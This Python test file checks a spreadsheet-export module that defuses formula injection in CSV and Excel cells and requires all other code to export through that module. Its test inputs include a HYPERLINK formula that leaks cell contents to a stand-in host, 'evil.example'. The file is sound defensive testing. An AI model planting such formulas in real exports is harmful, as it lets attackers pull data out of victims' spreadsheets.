"""The one spreadsheet writer: formula cells neutralized, numbers kept, quoting undone
exactly, and no module writing CSV or Excel any other way."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from xinyidai.core import exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
SRC = Path(__file__).resolve().parents[2] / "src" / "xinyidai"
# CSV that never reaches a spreadsheet as an export: ``xyd synth`` writes department feeds
# (with planted bad rows) and their truth tables, read back by ingestion and the tests
# byte for byte, and the platform's loan book with its outcomes, read back by the bench and
# training; the database layer streams rows to PostgreSQL's COPY as CSV.
NOT_EXPORTS = {"synth/writers.py", "synth/generate.py", "synth/loans.py", "core/db.py"}


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_gets_a_quote_in_front(value: str) -> None:
    assert exports.safe_cell(value) == "'" + value
    assert exports.restore_cell(exports.safe_cell(value)) == value


@pytest.mark.parametrize("value", [" =1+1", "\n@SUM(A1)", "\u3000=1+1", "'plain", "'=1"])
def test_blanks_before_a_formula_and_a_leading_quote_are_quoted_too(value: str) -> None:
    assert exports.safe_cell(value) == "'" + value
    assert exports.restore_cell("'" + value) == value


@pytest.mark.parametrize(
    "value",
    [Decimal("-100"), Decimal("-100.50"), -5, -2.5, 0, date(2024, 1, 2), True, "-100.00", "-7"],
)
def test_numbers_stay_numbers(value: object) -> None:
    assert exports.safe_cell(value) is value


@pytest.mark.parametrize("value", ["南宁示范科技有限公司", "a-b", "1+1", "x=1", "", "(-inf, 3.5]"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert exports.safe_cell(value) == value
    assert exports.restore_cell(value) == value


@given(st.text())
def test_quoting_is_undone_exactly(value: str) -> None:
    assert exports.restore_cell(exports.safe_cell(value)) == value
    written = exports.safe_cell(value)
    assert not written or written[0] not in "=+-@\t\r" or PLAIN_NUMBER.fullmatch(written)


def test_none_is_an_empty_cell_and_a_csv_file_starts_with_a_bom() -> None:
    text = exports.csv_text(["a", "b"], [[None, "=1+1"], [Decimal("-3.50"), 4]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["a", "b"], ["", "'=1+1"], ["-3.50", "4"]]


def test_a_workbook_holds_text_as_text_and_numbers_as_numbers() -> None:
    data = exports.xlsx_bytes(
        "sheet",
        ["=header", "amount", "day"],
        [[value, Decimal("-100.25"), date(2024, 1, 2)] for value in [*FORMULAS, "#N/A", "a\x07b"]],
        number_formats={1: "#,##0.00"},
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    assert rows[0][0].value == "=header"
    for row in rows:
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert cell.quotePrefix
    # XML reads a carriage return in text as a line feed
    expected = [v.replace("\r", "\n") for v in FORMULAS] + ["#N/A", "a\ufffdb"]
    assert [row[0].value for row in rows[1:]] == expected
    assert {(row[1].data_type, row[1].value, row[1].number_format) for row in rows[1:]} == {
        ("n", -100.25, "#,##0.00")
    }
    assert rows[1][2].is_date


@given(st.lists(st.text(), min_size=1, max_size=20))
def test_a_frame_is_neutralized_by_the_same_rule(values: list[str]) -> None:
    frame = pl.DataFrame({"text": values, "number": [-1.5] * len(values)})
    buffer = io.BytesIO()
    exports.write_frame_csv(frame, buffer)  # type: ignore[arg-type]
    written = pl.read_csv(io.BytesIO(buffer.getvalue()), infer_schema=False)
    expected = [exports.safe_cell(v) for v in values]
    assert [v or "" for v in written["text"].to_list()] == expected
    assert set(written["number"].to_list()) == {"-1.5"}


def _writer_calls(tree: ast.AST) -> list[str]:
    """The spreadsheet writers a module calls or imports: csv.writer, csv.DictWriter,
    openpyxl's Workbook, a polars or pandas frame's CSV and Excel writers, xlsxwriter."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in (
            "writer",
            "DictWriter",
            "write_csv",
            "write_excel",
            "to_csv",
            "to_excel",
        ):
            owner = node.value
            if isinstance(owner, ast.Name) and owner.id == "exports":
                continue
            if node.attr in ("writer", "DictWriter"):
                if isinstance(owner, ast.Name) and owner.id == "csv":
                    found.append(f"csv.{node.attr}")
            else:
                found.append(node.attr)
        elif isinstance(node, ast.ImportFrom) and node.module in ("csv", "openpyxl"):
            for alias in node.names:
                if alias.name in ("writer", "DictWriter", "Workbook"):
                    found.append(f"{node.module}.{alias.name}")
        elif isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
            if any(name.split(".")[0] in ("xlsxwriter", "defusedcsv") for name in names):
                found.append("xlsxwriter")
    return found


def test_every_spreadsheet_file_is_written_through_the_exports_module() -> None:
    writers = {}
    for path in sorted(SRC.rglob("*.py")):
        name = path.relative_to(SRC).as_posix()
        calls = _writer_calls(ast.parse(path.read_text(encoding="utf-8")))
        if calls:
            writers[name] = calls
    assert "core/exports.py" in writers  # the check finds what it looks for
    others = {name: calls for name, calls in writers.items() if name != "core/exports.py"}
    assert set(others) <= NOT_EXPORTS, (
        f"write CSV and Excel files through xinyidai.core.exports, not directly: {others}"
    )
